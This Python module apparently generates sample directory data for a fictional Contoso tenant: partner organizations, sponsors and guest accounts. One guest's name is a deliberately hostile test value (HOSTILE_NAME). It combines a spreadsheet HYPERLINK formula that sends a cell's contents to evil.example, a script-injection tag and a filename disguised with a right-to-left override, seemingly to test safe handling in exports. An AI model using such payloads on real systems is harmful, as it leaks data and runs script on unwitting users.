"""Contoso's connected organizations and its guests."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

from sample_exports.generate import access_records, directory_records
from sample_exports.generate.clock import ago
from sample_exports.generate.directory_records import ENTRA, MICROSOFT_ACCOUNT, ONE_TIME_PASSCODE
from sample_exports.generate.ids import stable_id

if TYPE_CHECKING:
    from sample_exports.generate.tenant import Tenant

TENANT_DOMAIN = "contoso.onmicrosoft.com"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")<script>alert(1)</script>\u202egnp.exe'
SAML_ISSUER = "https://sts.tailspintoys.com/adfs/services/trust"


@dataclass(frozen=True, slots=True)
class Guest:
    """A guest; `partner` is the connected organization that the subject of their assignments names."""

    name: str
    mail: str
    partner: str | None = None
    issuer: str = ENTRA
    accepted: bool = True
    signs_in: bool = True
    enabled: bool = True


def _of(partner: str, domain: str, *names: str) -> list[Guest]:
    return [Guest(name, f"{name.lower().replace(' ', '.')}@{domain}", partner) for name in names]


GUESTS = [
    *_of(
        "Fabrikam",
        "fabrikam.com",
        "Alma Berg",
        "Boris Petit",
        "Celia Nordin",
        "Dov Stein",
        "Erika Blom",
        "Faisal Khan",
        "Gina Torres",
        "Henk Visser",
    ),
    *_of("Wingtip Toys", "wingtiptoys.com", "Ilse Groot", "Maeve Quill", "Norbert Haas", "Oona Sheridan"),
    Guest("Carla Mendes", "carla.mendes@wingtiptoys.com", "Wingtip Toys", enabled=False),
    Guest("Jorge Prado", "jorge.prado@wingtiptoys.com", "Wingtip Toys", accepted=False, signs_in=False),
    Guest("Katya Orlova", "katya.orlova@wingtiptoys.com", "Wingtip Toys", accepted=False, signs_in=False),
    Guest("Liam Burke", "liam.burke@wingtiptoys.com", "Wingtip Toys", accepted=False, signs_in=False),
    Guest("Fern Hollis", "fern.hollis@wingtiptoys.com", issuer=ONE_TIME_PASSCODE),
    *_of("Litware", "litwareinc.com", "Quirin Vogt", "Roos Meijer"),
    Guest("Odile Perrin", "odile.perrin@litwareinc.com", "Litware", signs_in=False),
    Guest("Pim Dekker", "pim.dekker@litwareinc.com", "Litware", accepted=False, signs_in=False),
    *_of("Adventure Works", "adventure-works.com", "Rina Sato", "Silas Green", "Tove Dahl"),
    Guest("Uma Rao", "uma.rao@tailspintoys.com", "Tailspin Toys", issuer=SAML_ISSUER),
    *_of("Northwind Traders", "northwindtraders.com", "Vasco Lima"),
    *_of("Proseware", "proseware.com", "Wendy Clarke", "Xavier Blanc"),
    Guest("Yann Morel", "yann.morel@proseware.com", "Proseware", enabled=False),
    *_of("Trey Research", "treyresearch.net", "Zelda Hart"),
    Guest(HOSTILE_NAME, "invoices.dept@outlook.com", issuer=MICROSOFT_ACCOUNT),
    Guest("Abel Stone", "abel.stone@gmail.com", issuer="google.com"),
    Guest("Bianca Conti", "bianca.conti@yahoo.com", issuer="facebook.com"),
    Guest("Cosmo Reed", "cosmo@reed-photography.example", issuer=ONE_TIME_PASSCODE),
    Guest("Delia Marsh", "delia.marsh@outlook.com", issuer=MICROSOFT_ACCOUNT),
    Guest("Ennio Rossetti", "ennio@rossetti-design.example", issuer=ONE_TIME_PASSCODE),
    Guest("Glen Osei", "glen.osei@gmail.com", issuer="google.com", enabled=False),
]


def add_partners(tenant: Tenant) -> None:
    """The organizations Contoso works with, who sponsors them, and their people."""
    _organization(tenant, "Fabrikam", _tenant("fabrikam", "Fabrikam"), "configured")
    _organization(tenant, "Wingtip Toys", _domain("wingtiptoys.com", "Wingtip Toys"), "configured")
    _organization(tenant, "Adventure Works", _domain("adventure-works.com", "Adventure Works"), "configured")
    federation = {
        "@odata.type": "#microsoft.graph.externalDomainFederation",
        "domainName": "tailspintoys.com",
        "issuerUri": SAML_ISSUER,
        "displayName": "Tailspin Toys",
    }
    _organization(tenant, "Tailspin Toys", federation, "configured")
    _organization(tenant, "Litware", _domain("litwareinc.com", "Litware"), "proposed")
    _organization(tenant, "Northwind Traders", _tenant("northwindtraders", "Northwind Traders"), "proposed")
    _organization(tenant, "Proseware", _domain("proseware.com", "Proseware"), "proposed")
    _organization(tenant, "Trey Research", _domain("treyresearch.net", "Trey Research"), "proposed")
    for number, guest in enumerate(GUESTS):
        _invite(tenant, guest, number)
    for partner in ("Fabrikam", "Wingtip Toys", "Adventure Works", "Tailspin Toys"):
        _sponsor(tenant, partner, "Viktor Sandahl", "internal")
        _sponsor(tenant, partner, "Patrick Doyle", "internal")
    _sponsor(tenant, "Litware", "Selma Ansari", "internal")
    _sponsor(tenant, "Fabrikam", "Henk Visser", "external")


def _tenant(name: str, title: str) -> directory_records.Record:
    return access_records.tenant_source(stable_id(name, "organization", title), title)


def _domain(domain: str, title: str) -> directory_records.Record:
    return access_records.domain_source(domain, title)


def _organization(tenant: Tenant, name: str, source: directory_records.Record, state: str) -> None:
    record_id = tenant.new_id("connected organization", name)
    record = access_records.connected_organization(record_id, name, source, state=state, created=ago(640))
    tenant.add("connected_organizations", record)


def _sponsor(tenant: Tenant, partner: str, person: str, kind: str) -> None:
    record = {
        "connectedOrganizationId": tenant.id_of("connected_organizations", partner),
        "sponsorId": tenant.user_id(person),
        "sponsorKind": kind,
    }
    tenant.add("connected_organization_sponsors", record, f"{partner}/{person}")


def _invite(tenant: Tenant, guest: Guest, number: int) -> None:
    signed_in = ago(1.5 + number % 20) if guest.signs_in else None
    record = directory_records.guest(
        tenant.new_id("user", guest.mail),
        guest.name,
        mail=guest.mail,
        issuer=guest.issuer,
        tenant_domain=TENANT_DOMAIN,
        created=ago(400 - number * 6),
        signed_in=signed_in,
        accepted=guest.accepted,
        enabled=guest.enabled,
        sponsors=(tenant.user_id("Patrick Doyle"),) if number % 3 == 0 else (),
    )
    tenant.add("users", record)
    if guest.partner:
        tenant.home[guest.name] = tenant.get("connected_organizations", guest.partner)
